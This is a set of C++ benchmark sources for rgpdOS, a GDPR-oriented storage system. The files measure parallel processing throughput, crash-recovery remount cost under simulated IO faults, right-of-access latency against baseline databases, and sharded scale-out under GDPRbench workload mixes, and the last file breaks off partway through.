  /// Per-server throughput over the drain horizon, ops/s.
  [[nodiscard]] double ServerOpsPerSec(std::size_t server) const {
    return makespan_ns_ > 0
               ? double(server_ops_[server]) / (makespan_ns_ / 1e9)
               : 0;
  }

 private:
  double gap_mean_ns_;
  Rng rng_;
  double next_arrival_ns_ = 0;
  std::vector<double> server_free_ns_;
  std::vector<std::uint64_t> server_ops_;
  double makespan_ns_ = 0;
  LatencyReservoir latency_;
};

/// Write a CI artifact `BENCH_<name>.json` holding the bench's headline
/// numbers plus a full metrics-registry snapshot, into
/// $RGPD_BENCH_ARTIFACT_DIR (default: current directory). Benches stay
/// usable without CI: failures only warn.
inline void DumpBenchArtifact(
    const std::string& name,
    const std::vector<std::pair<std::string, double>>& stats) {
  const char* dir = std::getenv("RGPD_BENCH_ARTIFACT_DIR");
  std::string path = (dir != nullptr && *dir != '\0') ? dir : ".";
  path += "/BENCH_" + name + ".json";
  std::ofstream out(path);
  if (!out) {
    std::fprintf(stderr, "warning: cannot write bench artifact %s\n",
                 path.c_str());
    return;
  }
  out << "{\"bench\": \"" << metrics::JsonEscape(name) << "\", \"stats\": {";
  for (std::size_t i = 0; i < stats.size(); ++i) {
    if (i != 0) out << ", ";
    out << '"' << metrics::JsonEscape(stats[i].first)
        << "\": " << stats[i].second;
  }
  out << "}, \"metrics\": "
      << metrics::MetricsRegistry::Instance().JsonSnapshot() << "}\n";
  std::fprintf(stderr, "bench artifact written to %s\n", path.c_str());
}

}  // namespace rgpdos::bench
