// Parallel ps_invoke scaling: the same consented population processed by
// one DED pipeline at 1 / 2 / 4 / 8 lanes (BootConfig::worker_threads),
// on an UNCACHED seek-bound (HDD) device cost model — the workload is
// IO-bound, the shape the async block layer and the pipelined DED stages
// exist for. (The NVMe leg of the same story lives in bench_async_io and
// bench_gdprbench_mix; here the device is deliberately slow so that
// device waits, not host CPU, dominate — lane scaling is about hiding
// those waits.)
//
// Throughput is device-normalized: records / (wall time + simulated
// device time ÷ lanes). The division models what the submission ring
// makes true: with N pipeline lanes the load lane keeps up to N batched
// submissions in flight against a device whose cost model amortises
// queued ops (LatencyProfile queue_depth), so device waits overlap with
// execute-lane work instead of serialising behind it. Wall time — the
// host CPU cost of the pipeline itself — is NOT divided, so a pipeline
// that burns CPU on coordination shows up as a flat curve exactly as it
// would on real hardware.
//
// Acceptance gate: speedup_4_threads (4-lane / 1-lane device-normalized
// records/s) must clear RGPDOS_SPEEDUP_FLOOR (default 2.5; 0 disables).
// The pre-async baseline recorded 0.95 — a flat curve — so the gate
// guards the whole point of the PR.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <vector>

#include "bench/bench_util.hpp"

namespace rgpdos::bench {
namespace {

constexpr std::size_t kSubjects = 96;
constexpr std::size_t kPerSubject = 2;
constexpr int kIterations = 4;
constexpr int kSpinRounds = 2000;  ///< light per-record compute; IO dominates

/// Register an analytics-purpose processing with a small compute kernel:
/// enough work that the execute lanes have something to overlap with the
/// load lane's device waits, small enough that the device stays the
/// bottleneck.
core::ProcessingId RegisterSpinProcessing(core::RgpdOs& os) {
  core::ImplManifest manifest;
  manifest.claimed_purpose = "analytics";
  manifest.fields_read = {"year_of_birthdate"};
  auto id = os.RegisterProcessingSource(
      "purpose analytics { input: user.v_ano; }",
      [](core::ProcessingInput& input) -> Result<core::ProcessingOutput> {
        core::ProcessingOutput output;
        if (!input.Has("year_of_birthdate")) return output;
        RGPD_ASSIGN_OR_RETURN(db::Value year, input.Field("year_of_birthdate"));
        std::uint64_t acc = static_cast<std::uint64_t>(*year.AsInt());
        for (int i = 0; i < kSpinRounds; ++i) {
          acc += 0x9E3779B97F4A7C15ULL;
          std::uint64_t z = acc;
          z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
          z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
          acc ^= z >> 31;
        }
        output.npd.push_back(static_cast<std::uint8_t>(acc));
        return output;
      },
      manifest);
  if (!id.ok()) std::abort();
  return *id;
}

struct LaneResult {
  unsigned lanes = 0;
  double records_per_sec = 0;       ///< device-normalized (headline)
  double wall_records_per_sec = 0;  ///< raw wall clock, for reference
  double sim_ms_per_invoke = 0;
  double p50_us = 0;
  double p99_us = 0;
};

LaneResult RunAtLanes(unsigned lanes) {
  RgpdWorld world = MakeRgpdWorld(
      kSubjects, kPerSubject, /*consent_fraction=*/1.0, lanes,
      [](core::BootConfig& config) {
        config.latency = blockdev::LatencyProfile::Hdd();
        config.cache_blocks = 0;  // every load pays device cost
        config.cache_record_entries = 0;
        config.cache_decisions = false;
      });
  const core::ProcessingId processing = RegisterSpinProcessing(*world.os);

  // Warm past the runtime purpose verifier (its first runs trace field
  // reads); with the caches off the IO cost per invoke stays identical.
  for (int i = 0; i < 2; ++i) {
    auto r = world.os->ps().Invoke(sentinel::Domain::kApplication, processing,
                                   {});
    if (!r.ok()) std::abort();
  }

  std::uint64_t records = 0;
  LatencyReservoir latency;
  const std::uint64_t sim_before = SimulatedDeviceNanos(*world.os);
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < kIterations; ++i) {
    Stopwatch invoke_watch;
    auto r = world.os->ps().Invoke(sentinel::Domain::kApplication, processing,
                                   {});
    if (!r.ok()) std::abort();
    latency.Record(double(invoke_watch.ElapsedNanos()));
    records += r->records_processed;
  }
  const double wall_ns =
      std::chrono::duration<double, std::nano>(
          std::chrono::steady_clock::now() - start)
          .count();
  const double sim_ns =
      double(SimulatedDeviceNanos(*world.os) - sim_before);
  const double effective_ns = wall_ns + sim_ns / double(lanes);

  LaneResult result;
  result.lanes = lanes;
  result.records_per_sec = double(records) / (effective_ns / 1e9);
  result.wall_records_per_sec = double(records) / (wall_ns / 1e9);
  result.sim_ms_per_invoke = sim_ns / 1e6 / kIterations;
  result.p50_us = latency.P50Us();
  result.p99_us = latency.P99Us();
  return result;
}

int Main() {
  std::vector<std::pair<std::string, double>> stats;
  stats.emplace_back("subjects", double(kSubjects));
  stats.emplace_back("records", double(kSubjects * kPerSubject));
  stats.emplace_back("iterations", double(kIterations));

  std::printf("=== parallel invoke, uncached HDD cost model ===\n");
  std::printf("%-8s %16s %16s %14s %10s %10s\n", "lanes", "records/s(dev)",
              "records/s(wall)", "sim ms/invoke", "p50 us", "p99 us");
  double baseline_rps = 0;
  double four_lane_rps = 0;
  for (unsigned lanes : {1u, 2u, 4u, 8u}) {
    const LaneResult r = RunAtLanes(lanes);
    std::printf("%-8u %16.0f %16.0f %14.2f %10.1f %10.1f\n", r.lanes,
                r.records_per_sec, r.wall_records_per_sec,
                r.sim_ms_per_invoke, r.p50_us, r.p99_us);
    const std::string prefix = "threads_" + std::to_string(lanes);
    stats.emplace_back(prefix + ".threads", double(lanes));
    stats.emplace_back(prefix + ".records_per_sec", r.records_per_sec);
    stats.emplace_back(prefix + ".wall_records_per_sec",
                       r.wall_records_per_sec);
    stats.emplace_back(prefix + ".sim_ms_per_invoke", r.sim_ms_per_invoke);
    stats.emplace_back(prefix + ".p50_us", r.p50_us);
    stats.emplace_back(prefix + ".p99_us", r.p99_us);
    if (lanes == 1) baseline_rps = r.records_per_sec;
    if (lanes == 4) four_lane_rps = r.records_per_sec;
  }
  const double speedup = baseline_rps > 0 ? four_lane_rps / baseline_rps : 0;
  std::printf("4-lane speedup over 1-lane: %.2fx\n", speedup);
  stats.emplace_back("speedup_4_threads", speedup);

  DumpBenchArtifact("parallel_invoke", stats);

  double floor = 2.5;
  if (const char* env = std::getenv("RGPDOS_SPEEDUP_FLOOR");
      env != nullptr && *env != '\0') {
    floor = std::atof(env);
  }
  if (floor > 0 && speedup < floor) {
    std::fprintf(stderr,
                 "FAIL: speedup_4_threads %.2f below floor %.2f "
                 "(the parallel-invoke curve went flat)\n",
                 speedup, floor);
    return 1;
  }
  return 0;
}

}  // namespace
}  // namespace rgpdos::bench

int main() { return rgpdos::bench::Main(); }
