// Parallel ps_invoke scaling: the same consented population processed by
// one DED pipeline at 1 / 2 / 4 / 8 lanes (BootConfig::worker_threads).
// The implementation is deliberately compute-heavy per record so the
// bench measures how the DedExecutor fans ded_load_membrane / ded_filter
// / ded_load_data / ded_execute over shards, not journal throughput.
//
// Acceptance gate for the threading PR: on a multi-core CI runner the
// 4-lane run must clear >= 2x the single-lane records/sec. The artifact
// records each lane count explicitly so the gate can read it back.
#include <chrono>
#include <cstdio>
#include <vector>

#include "bench/bench_util.hpp"

namespace rgpdos::bench {
namespace {

constexpr std::size_t kSubjects = 48;
constexpr std::size_t kPerSubject = 4;
constexpr int kIterations = 6;
constexpr int kSpinRounds = 40000;  ///< per-record compute in ded_execute

/// Register an analytics-purpose processing whose per-record cost is
/// dominated by compute (a SplitMix-style spin), the shape that scales
/// with lanes.
core::ProcessingId RegisterSpinProcessing(core::RgpdOs& os) {
  core::ImplManifest manifest;
  manifest.claimed_purpose = "analytics";
  manifest.fields_read = {"year_of_birthdate"};
  auto id = os.RegisterProcessingSource(
      "purpose analytics { input: user.v_ano; }",
      [](core::ProcessingInput& input) -> Result<core::ProcessingOutput> {
        core::ProcessingOutput output;
        if (!input.Has("year_of_birthdate")) return output;
        RGPD_ASSIGN_OR_RETURN(db::Value year, input.Field("year_of_birthdate"));
        std::uint64_t acc = static_cast<std::uint64_t>(*year.AsInt());
        for (int i = 0; i < kSpinRounds; ++i) {
          acc += 0x9E3779B97F4A7C15ULL;
          std::uint64_t z = acc;
          z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
          z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
          acc ^= z >> 31;
        }
        output.npd.push_back(static_cast<std::uint8_t>(acc));
        return output;
      },
      manifest);
  if (!id.ok()) std::abort();
  return *id;
}

struct LaneResult {
  unsigned lanes = 0;
  double invokes_per_sec = 0;
  double records_per_sec = 0;
  double us_per_invoke = 0;
  double p50_us = 0;
  double p99_us = 0;
};

LaneResult RunAtLanes(unsigned lanes) {
  RgpdWorld world = MakeRgpdWorld(kSubjects, kPerSubject,
                                  /*consent_fraction=*/1.0, lanes);
  const core::ProcessingId processing = RegisterSpinProcessing(*world.os);

  // Warm past the runtime purpose verifier (its first runs trace field
  // reads) so the timed loop measures the steady state.
  for (int i = 0; i < 3; ++i) {
    auto r = world.os->ps().Invoke(sentinel::Domain::kApplication, processing,
                                   {});
    if (!r.ok()) std::abort();
  }

  std::uint64_t records = 0;
  LatencyReservoir latency;
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < kIterations; ++i) {
    Stopwatch invoke_watch;
    auto r = world.os->ps().Invoke(sentinel::Domain::kApplication, processing,
                                   {});
    if (!r.ok()) std::abort();
    latency.Record(double(invoke_watch.ElapsedNanos()));
    records += r->records_processed;
  }
  const double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();

  LaneResult result;
  result.lanes = lanes;
  result.invokes_per_sec = kIterations / seconds;
  result.records_per_sec = double(records) / seconds;
  result.us_per_invoke = seconds * 1e6 / kIterations;
  result.p50_us = latency.P50Us();
  result.p99_us = latency.P99Us();
  return result;
}

int Main() {
  std::vector<std::pair<std::string, double>> stats;
  stats.emplace_back("subjects", double(kSubjects));
  stats.emplace_back("records", double(kSubjects * kPerSubject));
  stats.emplace_back("iterations", double(kIterations));

  std::printf("%-8s %14s %14s %12s %10s %10s\n", "lanes", "invokes/s",
              "records/s", "us/invoke", "p50 us", "p99 us");
  double baseline_rps = 0;
  double four_lane_rps = 0;
  for (unsigned lanes : {1u, 2u, 4u, 8u}) {
    const LaneResult r = RunAtLanes(lanes);
    std::printf("%-8u %14.2f %14.0f %12.1f %10.1f %10.1f\n", r.lanes,
                r.invokes_per_sec, r.records_per_sec, r.us_per_invoke,
                r.p50_us, r.p99_us);
    const std::string prefix = "threads_" + std::to_string(lanes);
    stats.emplace_back(prefix + ".threads", double(lanes));
    stats.emplace_back(prefix + ".invokes_per_sec", r.invokes_per_sec);
    stats.emplace_back(prefix + ".records_per_sec", r.records_per_sec);
    stats.emplace_back(prefix + ".us_per_invoke", r.us_per_invoke);
    stats.emplace_back(prefix + ".p50_us", r.p50_us);
    stats.emplace_back(prefix + ".p99_us", r.p99_us);
    if (lanes == 1) baseline_rps = r.records_per_sec;
    if (lanes == 4) four_lane_rps = r.records_per_sec;
  }
  const double speedup = baseline_rps > 0 ? four_lane_rps / baseline_rps : 0;
  std::printf("4-lane speedup over 1-lane: %.2fx\n", speedup);
  stats.emplace_back("speedup_4_threads", speedup);

  DumpBenchArtifact("parallel_invoke", stats);
  return 0;
}

}  // namespace
}  // namespace rgpdos::bench

int main() { return rgpdos::bench::Main(); }
