// Crash-recovery cost: cold remount + journal replay latency as a
// function of how much committed-but-unchckpointed state the journal
// holds at the crash (DESIGN.md "Crash consistency & recovery").
//
// Each sample builds a store, commits N transactions that reach the
// journal but never the data region (SetCrashBeforeCheckpoint — the
// power-loss window group commit leaves open), drops the store, and
// times InodeStore::Mount on the cold device. A second section remounts
// the same state through a FaultInjectingBlockDevice issuing periodic
// transient IO errors, showing what the bounded retry policy costs.
#include <chrono>
#include <cstdio>

#include "bench/bench_util.hpp"
#include "blockdev/fault_injection.hpp"

using namespace rgpdos;

namespace {

constexpr std::uint32_t kBlockSize = 512;
constexpr std::uint64_t kBlocks = 16384;
constexpr std::size_t kPayloadBytes = 1024;
constexpr int kIterations = 5;

// Format, alloc + sync `txns` file inodes, then journal one write per
// inode with checkpointing suppressed: the device is left exactly as a
// crash between group commit and checkpoint would leave it.
void BuildCrashedState(blockdev::BlockDevice& device, std::size_t txns,
                       const Clock& clock) {
  inodefs::InodeStore::Options options;
  options.inode_count = static_cast<std::uint32_t>(txns + 64);
  options.journal_blocks = 4096;
  auto store = inodefs::InodeStore::Format(&device, options, &clock);
  if (!store.ok()) std::abort();
  std::vector<inodefs::InodeId> inodes;
  for (std::size_t i = 0; i < txns; ++i) {
    auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
    if (!id.ok()) std::abort();
    inodes.push_back(*id);
  }
  if (!(*store)->Sync().ok()) std::abort();
  (*store)->SetCrashBeforeCheckpoint(true);
  const Bytes payload(kPayloadBytes, 0x5A);
  for (inodefs::InodeId id : inodes) {
    if (!(*store)->WriteAll(id, ByteSpan(payload)).ok()) std::abort();
  }
  // Store destructor = power loss; nothing was checkpointed.
}

struct MountSample {
  double mount_ns = 0;
  std::uint64_t replayed_writes = 0;
  std::uint64_t committed_txns = 0;
  std::uint64_t transient_errors = 0;
  std::uint64_t io_retries = 0;
};

MountSample TimeMount(std::size_t txns, std::uint64_t transient_every) {
  SystemClock clock;
  MountSample best;
  for (int it = 0; it < kIterations; ++it) {
    blockdev::MemBlockDevice medium(kBlockSize, kBlocks);
    BuildCrashedState(medium, txns, clock);
    blockdev::FaultPlan plan;
    plan.transient_error_every = transient_every;
    blockdev::FaultInjectingBlockDevice device(&medium, plan);
    metrics::Counter& retry_counter =
        metrics::MetricsRegistry::Instance().GetCounter("inodefs.io.retries");
    const std::uint64_t retries_before = retry_counter.Value();
    const auto start = std::chrono::steady_clock::now();
    auto store = inodefs::InodeStore::Mount(&device, &clock);
    const auto end = std::chrono::steady_clock::now();
    if (!store.ok()) {
      std::fprintf(stderr, "mount failed: %s\n",
                   store.status().ToString().c_str());
      std::abort();
    }
    const double ns = double(
        std::chrono::duration_cast<std::chrono::nanoseconds>(end - start)
            .count());
    if (it == 0 || ns < best.mount_ns) {
      best.mount_ns = ns;
      best.replayed_writes = (*store)->last_recovery().replay.replayed_writes;
      best.committed_txns = (*store)->last_recovery().replay.committed_txns;
      best.transient_errors = device.fault_stats().transient_errors;
      best.io_retries = retry_counter.Value() - retries_before;
    }
  }
  return best;
}

}  // namespace

int main() {
  std::printf(
      "=== Recovery: cold remount + replay latency vs journal fill ===\n");
  std::printf("%-12s %-10s %14s %14s %12s %10s\n", "journal txns",
              "faults", "mount (us)", "replayed wr", "transient",
              "retries");

  std::vector<std::pair<std::string, double>> stats;
  for (std::size_t txns : {0u, 16u, 64u, 256u}) {
    const MountSample clean = TimeMount(txns, /*transient_every=*/0);
    std::printf("%-12zu %-10s %14.1f %14llu %12llu %10llu\n", txns, "none",
                bench::NsToUs(std::int64_t(clean.mount_ns)),
                static_cast<unsigned long long>(clean.replayed_writes),
                static_cast<unsigned long long>(clean.transient_errors),
                static_cast<unsigned long long>(clean.io_retries));
    stats.emplace_back("mount_us_txns_" + std::to_string(txns),
                       bench::NsToUs(std::int64_t(clean.mount_ns)));
    stats.emplace_back("replayed_writes_txns_" + std::to_string(txns),
                       double(clean.replayed_writes));
  }

  // Same heaviest fill, remounted through a device that fails every 64th
  // IO with a one-shot transient error: the retry policy must absorb all
  // of them, and the delta over the clean mount is the retry bill.
  const MountSample faulty = TimeMount(256, /*transient_every=*/64);
  std::printf("%-12u %-10s %14.1f %14llu %12llu %10llu\n", 256u,
              "every=64", bench::NsToUs(std::int64_t(faulty.mount_ns)),
              static_cast<unsigned long long>(faulty.replayed_writes),
              static_cast<unsigned long long>(faulty.transient_errors),
              static_cast<unsigned long long>(faulty.io_retries));
  stats.emplace_back("mount_us_txns_256_transient64",
                     bench::NsToUs(std::int64_t(faulty.mount_ns)));
  stats.emplace_back("transient_errors_absorbed",
                     double(faulty.transient_errors));
  stats.emplace_back("io_retries", double(faulty.io_retries));

  bench::DumpBenchArtifact("recovery", stats);
  return 0;
}
