// G1 — right of access (GDPRbench "customer" getDataByUser): latency of
// producing one subject's structured export as the population grows.
// rgpdOS resolves the subject tree directly; the baseline scans every
// table.
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== G1: right of access latency vs population ===\n");
  std::printf("%-10s %-10s %16s %16s %16s %10s\n", "subjects", "rec/subj",
              "baseline (us)", "baseline-idx (us)", "rgpdOS (us)",
              "speedup");

  for (std::size_t subjects : {100u, 500u, 2000u}) {
    const std::size_t per_subject = 2;
    bench::BaselineWorld baseline_world =
        bench::MakeBaselineWorld(subjects, per_subject);
    bench::BaselineWorld indexed_world = bench::MakeBaselineWorld(
        subjects, per_subject, /*subject_index=*/true);
    bench::RgpdWorld rgpd_world = bench::MakeRgpdWorld(subjects, per_subject);

    // Query 32 random subjects on each system.
    Rng rng(7);
    std::vector<std::uint64_t> targets;
    for (int i = 0; i < 32; ++i) targets.push_back(1 + rng.NextBelow(subjects));

    Stopwatch watch;
    for (std::uint64_t subject : targets) {
      auto records = baseline_world.engine->GetDataBySubject(subject);
      if (!records.ok() || records->size() != per_subject) std::abort();
    }
    const double baseline_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    watch.Restart();
    for (std::uint64_t subject : targets) {
      auto records = indexed_world.engine->GetDataBySubject(subject);
      if (!records.ok() || records->size() != per_subject) std::abort();
    }
    const double indexed_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    watch.Restart();
    for (std::uint64_t subject : targets) {
      auto report = rgpd_world.os->RightOfAccess(subject);
      if (!report.ok()) std::abort();
    }
    const double rgpd_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    std::printf("%-10zu %-10zu %16.1f %16.1f %16.1f %9.1fx\n", subjects,
                per_subject, baseline_us, indexed_us, rgpd_us,
                baseline_us / rgpd_us);
  }
  std::printf(
      "\nexpected shape: the baseline's cost grows linearly with the total "
      "population (full scan per request); rgpdOS stays near-flat "
      "(subject-tree lookup), so the gap widens with scale — the "
      "GDPRbench asymmetry. The indexed-baseline ablation closes the "
      "performance gap but (see G2/F2) not the compliance gap.\n");
  return 0;
}
