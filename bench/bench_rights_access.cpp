// G1 — right of access (GDPRbench "customer" getDataByUser): latency of
// producing one subject's structured export as the population grows.
// rgpdOS resolves the subject tree directly; the baseline scans every
// table.
#include <cstdio>

#include "bench/bench_util.hpp"

using namespace rgpdos;

int main() {
  std::printf("=== G1: right of access latency vs population ===\n");
  std::printf("%-10s %-10s %16s %16s %13s %13s %10s\n", "subjects",
              "rec/subj", "baseline (us)", "baseline-idx (us)",
              "rgpd cold (us)", "rgpd warm (us)", "speedup");

  std::vector<std::pair<std::string, double>> artifact_stats;
  for (std::size_t subjects : {100u, 500u, 2000u}) {
    const std::size_t per_subject = 2;
    bench::BaselineWorld baseline_world =
        bench::MakeBaselineWorld(subjects, per_subject);
    bench::BaselineWorld indexed_world = bench::MakeBaselineWorld(
        subjects, per_subject, /*subject_index=*/true);
    bench::RgpdWorld rgpd_world = bench::MakeRgpdWorld(subjects, per_subject);

    // Query 32 random subjects on each system.
    Rng rng(7);
    std::vector<std::uint64_t> targets;
    for (int i = 0; i < 32; ++i) targets.push_back(1 + rng.NextBelow(subjects));

    Stopwatch watch;
    for (std::uint64_t subject : targets) {
      auto records = baseline_world.engine->GetDataBySubject(subject);
      if (!records.ok() || records->size() != per_subject) std::abort();
    }
    const double baseline_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    watch.Restart();
    for (std::uint64_t subject : targets) {
      auto records = indexed_world.engine->GetDataBySubject(subject);
      if (!records.ok() || records->size() != per_subject) std::abort();
    }
    const double indexed_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    // Cold pass (boot-fresh caches), then a warm pass over the same
    // targets — the repeat-request case the record/block caches serve.
    watch.Restart();
    for (std::uint64_t subject : targets) {
      auto report = rgpd_world.os->RightOfAccess(subject);
      if (!report.ok()) std::abort();
    }
    const double rgpd_cold_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    watch.Restart();
    for (std::uint64_t subject : targets) {
      auto report = rgpd_world.os->RightOfAccess(subject);
      if (!report.ok()) std::abort();
    }
    const double rgpd_warm_us =
        bench::NsToUs(watch.ElapsedNanos()) / double(targets.size());

    std::printf("%-10zu %-10zu %16.1f %16.1f %13.1f %13.1f %9.1fx\n",
                subjects, per_subject, baseline_us, indexed_us, rgpd_cold_us,
                rgpd_warm_us, baseline_us / rgpd_warm_us);
    const std::string prefix = "n" + std::to_string(subjects) + ".";
    artifact_stats.emplace_back(prefix + "baseline_us", baseline_us);
    artifact_stats.emplace_back(prefix + "baseline_indexed_us", indexed_us);
    artifact_stats.emplace_back(prefix + "rgpdos_cold_us", rgpd_cold_us);
    artifact_stats.emplace_back(prefix + "rgpdos_warm_us", rgpd_warm_us);
    artifact_stats.emplace_back(
        prefix + "block_hit_pct",
        bench::BlockCacheStatsOf(*rgpd_world.os).HitRatio() * 100.0);
  }
  std::printf(
      "\nexpected shape: the baseline's cost grows linearly with the total "
      "population (full scan per request); rgpdOS stays near-flat "
      "(subject-tree lookup), so the gap widens with scale — the "
      "GDPRbench asymmetry. The indexed-baseline ablation closes the "
      "performance gap but (see G2/F2) not the compliance gap. The warm "
      "rgpdOS pass additionally hits the record/block caches.\n");
  bench::DumpBenchArtifact("rights_access", artifact_stats);
  return 0;
}
