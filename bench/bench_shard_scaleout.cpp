// Shard scale-out (DESIGN.md §12): an open-loop, million-subject load
// harness driving the GDPRbench controller / customer / regulator mixes
// against the sharded storage spine at 1 / 2 / 4 / 8 shards.
//
// Load model. Arrivals are Poisson at a fixed target QPS (open loop: the
// schedule does not slow down when the system falls behind, so queueing
// delay is visible instead of hidden by closed-loop back-off). Subjects
// are drawn zipfian (theta 0.9) from a >= 1M population, each loaded
// with one PD record up front.
//
// Time model. The host has however many cores it has (often one, in
// CI); real shard parallelism cannot be measured by wall clock alone.
// Instead every shard is an independent virtual server, exactly what the
// sharded spine gives the hardware: an op's SERVICE time is the wall
// time of executing it (CPU, caches, journal) plus the DELTA of the
// target shard's simulated NVMe device time (LatencyModelDevice.
// simulated_ns — reads 10us, writes 20us, flushes 50us). Completion is
// simulated by per-shard FIFO server clocks (OpenLoopRecorder): an op
// starts at max(arrival, shard free time) and occupies only its own
// shard, so independent shards drain the same arrival schedule in
// parallel — which is precisely the claim the spine makes, and what the
// recorded p50/p99/p999 sojourn times and per-shard ops/s quantify.
// Fan-out ops (regulator purpose audits) occupy every shard at once.
//
// Knobs (env): RGPDOS_BENCH_SUBJECTS (default 1,000,000),
// RGPDOS_BENCH_OPS per role (default 30,000), RGPDOS_BENCH_QPS target
// arrival rate (default 50,000). CI smoke runs shrink all three.
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "bench/bench_util.hpp"

namespace rgpdos::bench {
namespace {

std::uint64_t EnvOr(const char* name, std::uint64_t fallback) {
  const char* value = std::getenv(name);
  if (value == nullptr || *value == '\0') return fallback;
  return std::strtoull(value, nullptr, 10);
}

/// Blocks a loaded subject costs on its shard's 1 KiB-block device
/// (record file + membrane + subject-tree nodes + slack), measured
/// empirically and kept generous: running out of blocks mid-bench would
/// abort a multi-minute run.
constexpr std::uint64_t kBlocksPerSubject = 24;
constexpr std::uint32_t kInodesPerSubject = 8;

struct ScaleWorld {
  std::unique_ptr<core::RgpdOs> os;
  std::size_t shards = 1;
  std::uint64_t subjects = 0;
  double load_seconds = 0;
};

/// Boot an N-shard world and bulk-load one `user` record per subject.
ScaleWorld MakeScaleWorld(std::size_t shards, std::uint64_t subjects) {
  ScaleWorld world;
  world.shards = shards;
  world.subjects = subjects;

  const std::uint64_t per_shard = (subjects + shards - 1) / shards;
  core::BootConfig config;
  config.block_size = 1024;
  config.dbfs_blocks = per_shard * kBlocksPerSubject + 8192;
  config.inode_count =
      static_cast<std::uint32_t>(per_shard * kInodesPerSubject + 1024);
  config.journal_blocks = 1024;
  // The NPD store shares config.inode_count; give its device room for
  // the resulting inode table (256 B/inode) plus journal and slack.
  config.npd_blocks =
      std::uint64_t(config.inode_count) / (config.block_size / 256) +
      config.journal_blocks + 8192;
  config.shards = shards;
  config.latency = blockdev::LatencyProfile::Nvme();
  // Caches stay on (the production configuration); the device model
  // still charges every miss and every journal write.
  auto booted = core::RgpdOs::Boot(config);
  if (!booted.ok()) {
    std::fprintf(stderr, "boot(%zu shards) failed: %s\n", shards,
                 booted.status().ToString().c_str());
    std::abort();
  }
  world.os = std::move(booted).value();
  if (auto d = world.os->DeclareTypes(kBenchTypes); !d.ok()) std::abort();

  const dsl::TypeDecl decl = BenchUserDecl();
  Rng rng(42);
  Stopwatch load_watch;
  for (std::uint64_t subject = 1; subject <= subjects; ++subject) {
    membrane::Membrane m =
        decl.DefaultMembrane(subject, world.os->clock().Now());
    db::Row row{db::Value("name_" + std::to_string(subject)),
                db::Value(std::string("pw")),
                db::Value(std::int64_t(1940 + subject % 70))};
    auto id = world.os->dbfs().Put(sentinel::Domain::kDed, subject, "user",
                                   row, std::move(m));
    if (!id.ok()) {
      std::fprintf(stderr, "load put subject %" PRIu64 " failed: %s\n",
                   subject, id.status().ToString().c_str());
      std::abort();
    }
  }
  world.load_seconds = double(load_watch.ElapsedNanos()) / 1e9;
  return world;
}

db::Row FreshUserRow(Rng& rng, std::uint64_t subject) {
  return db::Row{db::Value("name_" + std::to_string(subject) + "_" +
                           rng.NextName(6)),
                 db::Value(std::string("pw")),
                 db::Value(rng.NextInRange(1940, 2010))};
}

/// Which shard a subject-routed op lands on (mirrors ShardedDbfs).
std::size_t ShardOf(std::uint64_t subject, std::size_t shards) {
  return subject % shards;
}

struct RoleResult {
  double achieved_ops_s = 0;
  double p50_us = 0;
  double p99_us = 0;
  double p999_us = 0;
  std::vector<double> per_shard_ops_s;
  std::size_t failed = 0;
};

/// Drive `ops` operations of `mix` through the world on the open-loop
/// schedule, attributing each op's service time to the shard(s) it
/// touched.
RoleResult RunRole(core::RgpdOs& os, std::size_t shards,
                   std::uint64_t subjects, const workload::OpMix& mix,
                   std::uint64_t ops, double target_qps) {
  const dsl::TypeDecl decl = BenchUserDecl();
  Rng rng(1234);
  Zipf zipf(subjects, 0.9, 99);
  OpenLoopRecorder recorder(target_qps, shards);
  RoleResult result;

  std::vector<std::uint64_t> sim_before(shards);
  const auto snapshot_sim = [&] {
    for (std::size_t s = 0; s < shards; ++s) {
      sim_before[s] = SimulatedDeviceNanosOfShard(os, s);
    }
  };

  for (std::uint64_t i = 0; i < ops; ++i) {
    const double arrival = recorder.NextArrivalNs();
    const std::uint64_t subject = 1 + zipf.Next();
    const std::size_t home = ShardOf(subject, shards);
    const workload::GdprOp op = mix.Sample(rng);
    const bool fan_out = op == workload::GdprOp::kAuditPurpose;

    snapshot_sim();
    Stopwatch watch;
    bool ok = true;
    switch (op) {
      case workload::GdprOp::kCreateRecord: {
        membrane::Membrane m = decl.DefaultMembrane(subject, os.clock().Now());
        ok = os.dbfs()
                 .Put(sentinel::Domain::kDed, subject, "user",
                      FreshUserRow(rng, subject), std::move(m))
                 .ok();
        break;
      }
      case workload::GdprOp::kReadRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        ok = ids.ok() && (ids->empty() ||
                          os.dbfs()
                              .Get(sentinel::Domain::kDed, ids->front())
                              .ok());
        break;
      }
      case workload::GdprOp::kUpdateRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          auto record = os.dbfs().Get(sentinel::Domain::kDed, ids->front());
          if (record.ok() && !record->erased) {
            ok = os.builtins()
                     .Update(core::PdRef{ids->front(), "user"},
                             FreshUserRow(rng, subject))
                     .ok();
          }
        }
        break;
      }
      case workload::GdprOp::kDeleteRecord: {
        auto ids = os.dbfs().RecordsOfSubject(sentinel::Domain::kDed, subject);
        if (ids.ok() && !ids->empty()) {
          ok = os.builtins()
                   .HardDelete(core::PdRef{ids->back(), "user"})
                   .ok();
        }
        break;
      }
      case workload::GdprOp::kRightOfAccess:
        ok = os.RightOfAccess(subject).ok();
        break;
      case workload::GdprOp::kRightToErasure:
        ok = os.RightToBeForgotten(subject).ok();
        break;
      case workload::GdprOp::kRightToPortability:
